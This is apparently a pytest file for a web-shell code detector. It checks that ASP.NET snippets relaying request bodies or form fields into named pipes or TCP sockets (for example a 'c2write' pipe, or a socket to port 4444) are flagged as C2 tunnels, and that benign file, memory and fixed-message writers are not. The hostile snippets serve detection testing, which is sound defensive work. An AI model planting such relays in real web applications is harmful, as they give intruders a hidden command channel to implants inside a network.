"""Request data written into a socket or a named pipe through a writer made over its stream
(`new BinaryWriter(client.GetStream())`, `new StreamWriter(pipe)`), and request data written into
a named pipe whose name the code fixes: the page relays its client's bytes to whatever listens
there, a C2 channel to an implant with no network connection of its own (docs/detection/
webshell-code.md, "Relays into sockets and named pipes"). Writers over files or memory, a pipe
only read from, and fixed messages down a pipe stay quiet."""

from __future__ import annotations

import pytest

from code_support import assert_benign, assert_found, cs_page, vb_page

PIPES = ("System.IO", "System.IO.Pipes", "System.Net.Sockets")

SHELLS = [
    (
        "pipe-relay.aspx",
        cs_page(
            "byte[] data = Request.BinaryRead(Request.ContentLength);\n"
            'using (var pipe = new NamedPipeClientStream(".", "c2write", PipeDirection.Out)) {\n'
            "  pipe.Connect();\n"
            "  using (var w = new BinaryWriter(pipe)) { w.Write(data); }\n"
            "}",
            imports=PIPES,
        ),
        ["the request body", "named pipe", "NamedPipeClientStream.Write"],
    ),
    (
        "pipe-direct.aspx",
        cs_page(
            "var body = Request.BinaryRead(Request.TotalBytes);\n"
            'var p = new NamedPipeClientStream("beacon");\n'
            "p.Connect(1000);\n"
            "p.Write(body, 0, body.Length);",
            imports=PIPES,
        ),
        ["the request body", "NamedPipeClientStream.Write"],
    ),
    (
        "pipe-server.aspx",
        cs_page(
            'var server = new NamedPipeServerStream("relay");\n'
            "server.WaitForConnection();\n"
            'byte[] b = Convert.FromBase64String(Request.Form["d"]);\n'
            "server.Write(b, 0, b.Length);",
            imports=PIPES,
        ),
        ["form field 'd'", "NamedPipeServerStream.Write"],
    ),
    (
        "pipe-name.aspx",
        cs_page(
            'var p = new NamedPipeClientStream(".", Request["pipe"], PipeDirection.InOut);\np.Connect();', imports=PIPES
        ),
        ["request parameter 'pipe'", "new NamedPipeClientStream"],
    ),
    (
        "socket-writer.aspx",
        cs_page(
            'var client = new TcpClient("10.0.0.5", 3389);\n'
            "var w = new StreamWriter(client.GetStream());\n"
            'w.WriteLine(Request["c"]);\nw.Flush();',
            imports=PIPES,
        ),
        ["request parameter 'c'", "NetworkStream.Write"],
    ),
    (
        "pipe-relay-vb.aspx",
        vb_page(
            "Dim d As Byte() = Request.BinaryRead(Request.ContentLength)\n"
            'Using p As New System.IO.Pipes.NamedPipeClientStream(".", "c2", System.IO.Pipes.PipeDirection.Out)\n'
            "p.Connect()\n"
            "Using bw As New System.IO.BinaryWriter(p)\nbw.Write(d)\nEnd Using\n"
            "End Using"
        ),
        ["the request body", "NamedPipeClientStream.Write"],
    ),
    (
        "socket-writer-vb.aspx",
        vb_page(
            'Dim t As New System.Net.Sockets.TcpClient("127.0.0.1", 4444)\n'
            "Dim sw As System.IO.StreamWriter = New System.IO.StreamWriter(t.GetStream())\n"
            'sw.Write(Request.Form("c"))'
        ),
        ["form field 'c'", "NetworkStream.Write"],
    ),
]


@pytest.mark.parametrize(("name", "code", "words"), SHELLS, ids=[s[0] for s in SHELLS])
def test_request_data_relayed_into_socket_or_pipe(name: str, code: str, words: list[str]) -> None:
    assert_found(name, code, "EXH-WS-CODE-TUNNEL", words)


BENIGN = [
    # Writers over a file the site names and over memory.
    cs_page(
        'var fs = new FileStream(Server.MapPath("~/App_Data/upload.bin"), FileMode.Create);\n'
        "using (var w = new BinaryWriter(fs)) { w.Write(Request.BinaryRead(Request.ContentLength)); }",
        imports=PIPES,
    ),
    cs_page('var ms = new MemoryStream();\nvar sw = new StreamWriter(ms);\nsw.Write(Request["c"]);', imports=PIPES),
    # A pipe read from, its bytes shown; and a fixed message down a fixed pipe.
    cs_page(
        'using (var p = new NamedPipeClientStream(".", "status", PipeDirection.In)) {\n'
        "  p.Connect();\n  var r = new BinaryReader(p);\n  Response.BinaryWrite(r.ReadBytes(64));\n}",
        imports=PIPES,
    ),
    cs_page(
        'var p = new NamedPipeClientStream("printqueue");\np.Connect();\n'
        'var w = new StreamWriter(p);\nw.WriteLine("refresh");\nw.Flush();',
        imports=PIPES,
    ),
    # A writer over a socket the code fixes, writing the server's own text.
    cs_page(
        'var c = new TcpClient("127.0.0.1", 2003);\nvar w = new StreamWriter(c.GetStream());\n'
        'w.WriteLine("site.hits 1 " + DateTime.UtcNow.Ticks);',
        imports=PIPES,
    ),
]


@pytest.mark.parametrize("code", BENIGN, ids=["file-writer", "memory-writer", "pipe-read", "fixed-message", "metrics"])
def test_writers_over_files_memory_and_fixed_messages_stay_quiet(code: str) -> None:
    assert_benign("relay.aspx", code)
